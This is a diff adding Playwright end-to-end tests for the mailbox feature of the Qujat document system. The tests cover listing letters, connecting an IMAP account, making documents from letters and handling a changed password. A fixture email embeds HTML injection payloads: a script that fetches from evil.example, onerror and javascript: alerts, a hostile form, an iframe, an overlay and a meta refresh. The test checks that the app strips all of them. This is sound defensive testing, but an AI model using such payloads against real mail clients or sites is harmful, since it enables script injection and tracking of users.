@@ -1,0 +1,167 @@
+import { readFile } from 'node:fs/promises';
+import { expect, test, type Locator, type Page } from 'playwright/test';
+import { startImapServer } from '../../server/src/mail/test-support/imap-server.ts';
+import type { RunningServer, TestMailbox } from '../../server/src/mail/test-support/line-server.ts';
+import { rawLetter, withAttachments } from '../../server/src/mail/test-support/raw-letter.ts';
+import { expectAccessible } from '../support/axe.ts';
+import { registerOrganisation } from '../support/own-organisation.ts';
+import { people, signInAs } from '../support/people.ts';
+import { wireOf } from '../support/wire.ts';
+
+const drafts = 7;
+
+/** What the page asks of others than the product. */
+const strangersAsked = (page: Page, baseURL: string | undefined): string[] => {
+  const addresses: string[] = [];
+  page.on('request', (request) => {
+    const { origin, protocol } = new URL(request.url());
+    if (protocol.startsWith('http') && origin !== baseURL) addresses.push(request.url());
+  });
+  return addresses;
+};
+
+const openMailbox = (page: Page): Promise<void> => page.getByRole('tab', { name: 'Почта' }).click();
+const letter = (page: Page, subject: string | RegExp): Locator => page.getByRole('row').getByRole('button', { name: subject });
+const make = (page: Page): Locator => page.getByRole('button', { name: /^Сформировать документ/ });
+const body = (page: Page) => page.frameLocator('iframe[title="Текст письма"]');
+
+test('letters that came with a server of the specification: list, hostile HTML, a document of one and of several', { tag: '@plain' }, async ({ page, baseURL, playwright }) => {
+  const asked = strangersAsked(page, baseURL);
+  let dialogs = 0;
+  page.on('dialog', (dialog) => {
+    dialogs += 1;
+    void dialog.dismiss();
+  });
+  const clerk = await wireOf(playwright, baseURL, people.clerk);
+  const mine = async (): Promise<number[]> => (await clerk.list(drafts)).docs.map(({ edocid }) => edocid);
+  const before = await mine();
+  await signInAs(page, people.clerk);
+  await openMailbox(page);
+  await expect(page.getByRole('columnheader')).toHaveText(['', 'Дата', 'Время', 'Отправитель', 'Тема'].map((title) => new RegExp(`${title}$`)));
+  await expect(page.getByRole('navigation', { name: 'Страницы почты' })).toBeVisible();
+
+  await letter(page, 'Вебинар: номенклатура дел без ошибок').click();
+  await expect(body(page).getByRole('heading', { name: 'Номенклатура дел без ошибок' })).toBeVisible();
+  await expect(body(page).getByRole('link', { name: 'Зарегистрироваться' })).toHaveAttribute('target', '_blank');
+  await expect(body(page).locator('script, [onclick], form')).toHaveCount(0);
+  await page.getByRole('button', { name: 'Вернуться назад' }).click();
+  await expect(letter(page, 'Вебинар: номенклатура дел без ошибок')).toBeFocused();
+
+  await letter(page, 'Путёвки в санаторий').click();
+  await expect(page.getByText('Заявки принимаются до двадцатого числа.', { exact: false })).toBeVisible();
+  await make(page).click();
+  await expect(page.getByText('Документы успешно сформированы.').first()).toBeVisible();
+  await page.getByRole('button', { name: 'Вернуться назад' }).click();
+  await page.getByRole('checkbox', { name: 'Выбрать письмо: Рахмет айту хаты' }).check();
+  await page.getByRole('checkbox', { name: 'Выбрать письмо: Путёвки в санаторий' }).check();
+  await make(page).click();
+  const banner = page.getByRole('alert').filter({ hasText: 'Формирование документов' });
+  await expect(banner).toContainText('Документы успешно сформированы.');
+
+  const made = (await mine()).filter((id) => !before.includes(id));
+  expect(made).toHaveLength(3);
+  // Others count the clerk's drafts.
+  for (const id of made) await clerk.post('/ce/delcase.php', { q: String(id) });
+  expect(await mine()).toEqual(before);
+  expect([dialogs, asked]).toEqual([0, []]);
+});
+
+test.describe('a mailbox of one’s own', () => {
+  const password = 'ящик-2026';
+  const pixel = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
+  const hostile = `<h1>Акция</h1><p>Скидка <b>30 %</b></p><script>top.document.title='взломано';fetch('https://evil.example/s')</script><img src="https://track.x.example/1.gif" alt="Баннер" onerror="alert(1)">
+    <img src="cid:logo@x" alt="Логотип"><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="p"></form><a href="javascript:alert(1)">Отписаться</a>
+    <div style="background:url(https://evil.example/b.png);position:fixed;inset:0">поверх</div><meta http-equiv="refresh" content="0;url=https://evil.example/">`;
+  let mail: RunningServer;
+  let mailbox: TestMailbox;
+  test.beforeAll(async () => {
+    mailbox = {
+      user: 'reader', password,
+      letters: [
+        { uid: 1, raw: withAttachments({ id: '<hostile@x>', subject: 'Акция недели', from: 'Магазин <shop@x.example>' }, hostile, [{ name: 'logo.png', content: pixel, type: 'image/png', contentId: 'logo@x' }], 'html') },
+        { uid: 2, raw: withAttachments({ id: '<contract@x>', subject: 'Договор № 17', from: 'ТОО «Дала» <a@dala.example>' }, 'Прошу подписать.', [{ name: 'Договор №17.docx', content: Buffer.from('содержимое') }]) },
+      ],
+    };
+    mail = await startImapServer({ mailbox });
+  });
+  test.afterAll(() => mail.stop());
+
+  test('is connected after a test that says what is wrong; its letters are read, and become documents', async ({ page, baseURL, request, context }) => {
+    test.setTimeout(120_000);
+    const email = await registerOrganisation(request);
+    await signInAs(page, email);
+    await page.getByRole('dialog', { name: 'Добро пожаловать в Qujat' }).getByRole('button', { name: 'Закрыть' }).click();
+
+    await page.goto('/ce/settings/');
+    const form = page.locator('#mail');
+    await form.getByRole('combobox', { name: 'Шифрование' }).click();
+    await page.getByRole('option', { name: 'Без шифрования' }).click();
+    for (const [label, value] of Object.entries({ Сервер: 'localhost', Порт: String(mail.port), Логин: 'reader', Отправитель: 'Нұрлан <reader@x.example>' })) await form.getByLabel(label, { exact: true }).fill(value);
+    await form.getByLabel('Пароль', { exact: true }).fill('guess');
+    const tryIt = form.getByRole('button', { name: 'Проверить подключение' });
+    await tryIt.click();
+    await expect(form.getByText('Неверный логин или пароль.', { exact: false })).toBeVisible();
+    await expect(form.getByLabel('Пароль', { exact: true })).toHaveAttribute('aria-invalid', 'true');
+    await expectAccessible(page, 'the mail account in the settings');
+    await form.getByLabel('Сервер').fill('no-such-host.invalid');
+    await tryIt.click();
+    await expect(form.getByText('Сервер с таким именем не найден.')).toBeVisible();
+    await form.getByLabel('Сервер').fill('localhost');
+    await form.getByLabel('Пароль', { exact: true }).fill(password);
+    await tryIt.click();
+    await expect(form.getByText('Подключение работает. Писем в ящике: 2.')).toBeVisible();
+    await form.getByRole('button', { name: 'Подключить' }).click();
+    await expect(form.getByText('Пароль сохранён.', { exact: false })).toBeVisible();
+
+    await page.goto('/');
+    await openMailbox(page);
+    await expect(letter(page, /Договор № 17/)).toBeVisible({ timeout: 30_000 });
+    await expect(page.getByText(/^Нұрлан <reader@x\.example>, проверено/)).toBeVisible({ timeout: 30_000 });
+    await expectAccessible(page, 'the mailbox');
+
+    const asked = strangersAsked(page, baseURL);
+    // No stranger is really asked by a test.
+    await context.route(/https:\/\/(track|evil)\./, (route) => route.fulfill({ contentType: 'image/png', body: pixel }));
+    const title = await page.title();
+    await letter(page, /Акция недели/).focus();
+    await page.keyboard.press('Enter');
+    await expect(page.getByRole('heading', { name: 'Акция недели' })).toBeFocused();
+    await expect(body(page).getByRole('heading', { name: 'Акция' })).toBeVisible();
+    await expect(body(page).getByAltText('Логотип')).toHaveJSProperty('naturalWidth', 1);
+    await expect(body(page).locator('script, iframe, form, input, meta[http-equiv], [onerror], [style*="fixed"], a[href^="javascript"]')).toHaveCount(0);
+    await expectAccessible(page, 'a letter');
+    expect([await page.title(), asked]).toEqual([title, []]);
+    await page.getByRole('button', { name: 'Показать картинки' }).click();
+    await expect(body(page).getByAltText('Баннер')).toHaveJSProperty('naturalWidth', 1);
+    expect(new Set(asked)).toEqual(new Set(['https://track.x.example/1.gif']));
+    await page.getByRole('button', { name: 'Вернуться назад' }).click();
+
+    await letter(page, /Договор № 17/).click();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: /Договор №17\.docx/ }).click()]);
+    expect(download.suggestedFilename()).toBe('Договор №17.docx');
+    expect(await readFile(await download.path(), 'utf8')).toBe('содержимое');
+    await make(page).click();
+    await expect(page.getByText('Документы успешно сформированы.').first()).toBeVisible();
+    const link = page.getByRole('link', { name: /, черновик$/ });
+    const id = /document=(\d+)/.exec((await link.getAttribute('href')) ?? '')?.[1];
+    await page.goto(`/ce/opendoc/?${id}`);
+    await expect(page.getByText('Прошу подписать.')).toBeVisible();
+    await expect(page.getByRole('link', { name: 'Договор №17.docx' })).toBeVisible();
+    await page.getByText('Составлен по письму').getByRole('link', { name: 'Договор № 17' }).click();
+    await expect(page.getByRole('heading', { name: 'Договор № 17' })).toBeVisible();
+    await expect(link).toBeVisible();
+
+    // The password is changed on the server: said where letters are waited for, and tried again when asked for.
+    mailbox.password = 'another';
+    mailbox.letters.push({ uid: 3, raw: rawLetter({ id: '<new@x>', subject: 'Новое письмо' }) });
+    await page.getByRole('button', { name: 'Вернуться назад' }).click();
+    await page.getByRole('button', { name: 'Проверить почту' }).click();
+    const trouble = page.getByRole('alert').filter({ hasText: 'Письма не загружаются.' });
+    await expect(trouble).toContainText('Неверный логин или пароль.', { timeout: 30_000 });
+    await expect(trouble.getByRole('link', { name: 'Настройки почты' })).toHaveAttribute('href', '/ce/settings/#mail');
+    mailbox.password = password;
+    await trouble.getByRole('button', { name: 'Повторить' }).click();
+    await expect(letter(page, /Новое письмо/)).toBeVisible({ timeout: 30_000 });
+    await expect(trouble).toHaveCount(0);
+  });
+});
